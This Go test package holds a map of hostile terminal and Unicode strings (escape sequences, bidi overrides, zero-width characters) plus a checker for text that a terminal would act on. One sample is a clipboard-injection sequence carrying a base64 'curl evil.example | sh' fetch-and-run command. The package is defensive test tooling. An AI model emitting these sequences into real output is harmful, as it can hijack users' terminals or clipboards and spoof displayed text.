// Package revealtest holds hostile text for tests of the paths that print
// or render what apps and models write, and an independent check that a
// printed text acts on nothing.
package revealtest

import (
	"strings"
	"unicode"
)

// Hostile is every kind of text an app or a model can write to act on a
// terminal or mislead a reader, by name; tests feed it through the paths
// that print or render app text.
var Hostile = map[string]string{
	"CSI colour":         "\x1b[31mred\x1b[0m",
	"CSI clear screen":   "\x1b[2J\x1b[H",
	"CSI cursor up":      "\x1b[1A\x1b[2K",
	"OSC 0 title":        "\x1b]0;pwned\x07",
	"OSC 2 title":        "\x1b]2;pwned\x1b\\",
	"OSC 8 link":         "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
	"OSC 52 clipboard":   "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
	"C1 CSI":             "\u009b31m",
	"C1 OSC":             "\u009d0;pwned\u009c",
	"carriage return":    "fine\rforged",
	"backspace":          "abc\b\b\bxyz",
	"bell":               "\a",
	"NUL":                "a\x00b",
	"DEL":                "a\x7fb",
	"bidi override":      "cost: \u202e01.05$",
	"bidi isolate":       "\u2067abc\u2069",
	"zero-width space":   "pay\u200bpal",
	"zero-width joiner":  "a\u200db",
	"byte order mark":    "\ufeffhello",
	"tag characters":     "hi\U000e0041\U000e0042",
	"line separator":     "a\u2028b",
	"invalid UTF-8":      "a\xffb",
	"soft hyphen":        "in\u00advisible",
	"word joiner":        "a\u2060b",
	"arabic letter mark": "a\u061cb",
}

// Controls is every C0 and C1 control and DEL, in order.
func Controls() string {
	var b strings.Builder
	for r := rune(0); r < 0x20; r++ {
		b.WriteRune(r)
	}
	b.WriteRune(0x7f)
	for r := rune(0x80); r < 0xa0; r++ {
		b.WriteRune(r)
	}
	return b.String()
}

// Samples is Hostile and Controls, by name.
func Samples() map[string]string {
	out := map[string]string{"every C0 and C1 control": Controls()}
	for k, v := range Hostile {
		out[k] = v
	}
	return out
}

// Active returns the first character of s that a terminal or a renderer
// would act on or hide rather than show: a control (line breaks and tabs
// allowed when lines is set) or an invisible format character.
func Active(s string, lines bool) (rune, bool) {
	for _, r := range s {
		if lines && (r == '\n' || r == '\t') {
			continue
		}
		if unicode.Is(unicode.Cc, r) || unicode.Is(unicode.Cf, r) || r == '\u2028' || r == '\u2029' {
			return r, true
		}
	}
	return 0, false
}
